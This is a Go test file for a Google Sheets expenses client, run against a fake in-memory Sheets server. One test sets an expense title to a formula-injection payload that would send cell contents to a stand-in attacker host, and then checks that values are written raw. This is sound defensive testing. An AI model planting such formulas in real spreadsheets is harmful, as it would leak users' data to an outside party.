package google

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"expenses/internal/core"

	goption "google.golang.org/api/option"
)

// fakeSheet serves the subset of the Sheets values API used by Client,
// backed by an in-memory grid.
type fakeSheet struct {
	mu   sync.Mutex
	rows [][]any

	ranges       []string
	inputOptions []string
}

var rowRangeRe = regexp.MustCompile(`!A(\d+):`)

func (f *fakeSheet) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	_, rest, ok := strings.Cut(r.URL.Path, "/values/")
	if !ok {
		http.NotFound(w, r)
		return
	}
	f.ranges = append(f.ranges, strings.TrimSuffix(strings.TrimSuffix(rest, ":append"), ":clear"))
	if opt := r.URL.Query().Get("valueInputOption"); opt != "" {
		f.inputOptions = append(f.inputOptions, opt)
	}

	switch {
	case r.Method == http.MethodGet:
		json.NewEncoder(w).Encode(map[string]any{"range": rest, "values": f.rows})
	case r.Method == http.MethodPost && strings.HasSuffix(rest, ":append"):
		var vr struct{ Values [][]any }
		json.NewDecoder(r.Body).Decode(&vr)
		f.rows = append(f.rows, vr.Values...)
		json.NewEncoder(w).Encode(map[string]any{})
	case r.Method == http.MethodPost && strings.HasSuffix(rest, ":clear"):
		if n := rowNumber(rest); n > 0 && n <= len(f.rows) {
			f.rows[n-1] = []any{}
		}
		json.NewEncoder(w).Encode(map[string]any{})
	case r.Method == http.MethodPut:
		var vr struct{ Values [][]any }
		json.NewDecoder(r.Body).Decode(&vr)
		n := rowNumber(rest)
		for len(f.rows) < n {
			f.rows = append(f.rows, []any{})
		}
		if n > 0 && len(vr.Values) > 0 {
			f.rows[n-1] = vr.Values[0]
		}
		json.NewEncoder(w).Encode(map[string]any{})
	default:
		http.Error(w, "unsupported", http.StatusBadRequest)
	}
}

func rowNumber(rng string) int {
	m := rowRangeRe.FindStringSubmatch(rng)
	if m == nil {
		return 0
	}
	n, _ := strconv.Atoi(m[1])
	return n
}

func newTestClient(t *testing.T) (*Client, *fakeSheet) {
	t.Helper()
	return newTestClientForSheet(t, "Expenses")
}

func newTestClientForSheet(t *testing.T, sheet string) (*Client, *fakeSheet) {
	t.Helper()
	fake := &fakeSheet{}
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	c, err := New(context.Background(), Config{SpreadsheetID: "sheet-id", SheetName: sheet},
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
	)
	if err != nil {
		t.Fatalf("New() error = %v", err)
	}
	return c, fake
}

func testExpense(id string, cents int64) core.Expense {
	return core.Expense{
		ID:       id,
		Owner:    "alice",
		Title:    "Groceries",
		Category: "Food",
		Amount:   core.Money{Cents: cents},
		Date:     time.Date(2024, 4, 2, 0, 0, 0, 0, time.UTC),
	}
}

func TestNew_MissingSpreadsheetID(t *testing.T) {
	if _, err := New(context.Background(), Config{}); err == nil {
		t.Fatal("expected error for missing spreadsheet id")
	}
}

func TestClient_UpsertAndRemove(t *testing.T) {
	ctx := context.Background()
	c, fake := newTestClient(t)

	if err := c.EnsureHeader(ctx); err != nil {
		t.Fatalf("EnsureHeader() error = %v", err)
	}
	if err := c.Upsert(ctx, testExpense("e1", 1999)); err != nil {
		t.Fatalf("Upsert(e1) error = %v", err)
	}
	if err := c.Upsert(ctx, testExpense("e2", 500)); err != nil {
		t.Fatalf("Upsert(e2) error = %v", err)
	}
	if len(fake.rows) != 3 {
		t.Fatalf("sheet has %d rows, want header + 2", len(fake.rows))
	}
	if got := fake.rows[1]; got[0] != "e1" || got[2] != "2024-04-02" || got[5] != 19.99 {
		t.Errorf("row 2 = %v", got)
	}

	// Updating rewrites the existing row in place.
	if err := c.Upsert(ctx, testExpense("e1", 0)); err != nil {
		t.Fatalf("Upsert(e1 again) error = %v", err)
	}
	if len(fake.rows) != 3 || fake.rows[1][5] != float64(0) {
		t.Errorf("rows after update = %v", fake.rows)
	}

	if err := c.Remove(ctx, "e2"); err != nil {
		t.Fatalf("Remove(e2) error = %v", err)
	}
	if len(fake.rows[2]) != 0 {
		t.Errorf("row 3 after remove = %v, want cleared", fake.rows[2])
	}
	if err := c.Remove(ctx, "missing"); err != nil {
		t.Errorf("Remove(missing) error = %v, want nil", err)
	}
}

func TestRowIndexOf(t *testing.T) {
	values := [][]any{{"ID"}, {}, {" e7 "}, {"e8"}}
	tests := []struct {
		id   string
		want int
	}{
		{"e7", 3},
		{"e8", 4},
		{"e9", 0},
	}
	for _, tt := range tests {
		if got := rowIndexOf(values, tt.id); got != tt.want {
			t.Errorf("rowIndexOf(%q) = %d, want %d", tt.id, got, tt.want)
		}
	}
}

func TestClient_WritesValuesRaw(t *testing.T) {
	ctx := context.Background()
	c, fake := newTestClient(t)

	e := testExpense("e1", 1250)
	e.Title = `=IMPORTXML("https://attacker.example/?q="&B2, "//a")`
	if err := c.Upsert(ctx, e); err != nil {
		t.Fatalf("Upsert(new) error = %v", err)
	}
	e.Category = "+SUM(1,2)"
	if err := c.Upsert(ctx, e); err != nil {
		t.Fatalf("Upsert(existing) error = %v", err)
	}

	if len(fake.inputOptions) != 2 {
		t.Fatalf("valueInputOption sent %d times, want 2: %v", len(fake.inputOptions), fake.inputOptions)
	}
	for _, opt := range fake.inputOptions {
		if opt != "RAW" {
			t.Errorf("valueInputOption = %q, want RAW", opt)
		}
	}
	if got := fake.rows[0]; got[3] != e.Title || got[4] != "+SUM(1,2)" || got[5] != 12.5 {
		t.Errorf("row = %v", got)
	}
}

func TestClient_QuotesSheetName(t *testing.T) {
	tests := []struct {
		sheet, prefix string
	}{
		{"Expenses", "'Expenses'!"},
		{"My Expenses", "'My Expenses'!"},
		{"Bob's", "'Bob''s'!"},
		{"A1", "'A1'!"},
	}
	for _, tt := range tests {
		t.Run(tt.sheet, func(t *testing.T) {
			ctx := context.Background()
			c, fake := newTestClientForSheet(t, tt.sheet)

			if err := c.EnsureHeader(ctx); err != nil {
				t.Fatalf("EnsureHeader() error = %v", err)
			}
			if err := c.Upsert(ctx, testExpense("e1", 100)); err != nil {
				t.Fatalf("Upsert(new) error = %v", err)
			}
			if err := c.Upsert(ctx, testExpense("e1", 200)); err != nil {
				t.Fatalf("Upsert(existing) error = %v", err)
			}
			if err := c.Remove(ctx, "e1"); err != nil {
				t.Fatalf("Remove() error = %v", err)
			}

			if len(fake.ranges) == 0 {
				t.Fatal("no requests recorded")
			}
			for _, rng := range fake.ranges {
				if !strings.HasPrefix(rng, tt.prefix) {
					t.Errorf("range %q, want prefix %q", rng, tt.prefix)
				}
			}
			if len(fake.rows[1]) != 0 {
				t.Errorf("row 2 after remove = %v, want cleared", fake.rows[1])
			}
		})
	}
}

func TestRowRange(t *testing.T) {
	if got, want := rowRange("My Expenses", 2), "'My Expenses'!A2:F2"; got != want {
		t.Errorf("rowRange() = %q, want %q", got, want)
	}
	if got, want := a1("Bob's", "A:A"), "'Bob''s'!A:A"; got != want {
		t.Errorf("a1() = %q, want %q", got, want)
	}
}
